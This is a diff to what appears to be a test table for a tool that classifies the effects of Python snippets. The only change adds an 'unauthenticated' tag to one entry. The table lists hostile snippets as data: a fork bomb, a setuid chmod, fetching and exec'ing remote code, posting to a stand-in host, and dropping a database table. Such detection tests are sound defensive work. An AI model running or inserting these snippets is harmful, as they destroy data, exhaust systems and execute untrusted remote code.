@@ -28,7 +28,7 @@ EFFECTS = {
     "import os; os.chdir('/'); os.unlink('x')": ("delete", "/x", set()),
     "import os; os.chmod('x', 0o4777)": ("chmod", "x", {"setuid", "world-writable"}),
     "import os\nwhile True: os.fork()": ("exec-code", "python", {"fork-bomb"}),
-    "import requests; requests.post('https://x.example', data='a')": ("send", "https://x.example", set()),
+    "import requests; requests.post('https://x.example', data='a')": ("send", "https://x.example", {"unauthenticated"}),
     "import urllib.request as u; exec(u.urlopen('http://x/y').read())": ("exec-code", "python", {"remote"}),
     "import socket; socket.socket().connect(('1.2.3.4', 99))": ("connect", "1.2.3.4:99", set()),
     "import sqlite3; sqlite3.connect('a.db').execute('DROP TABLE t')": ("database-delete", "DROP TABLE t", set()),
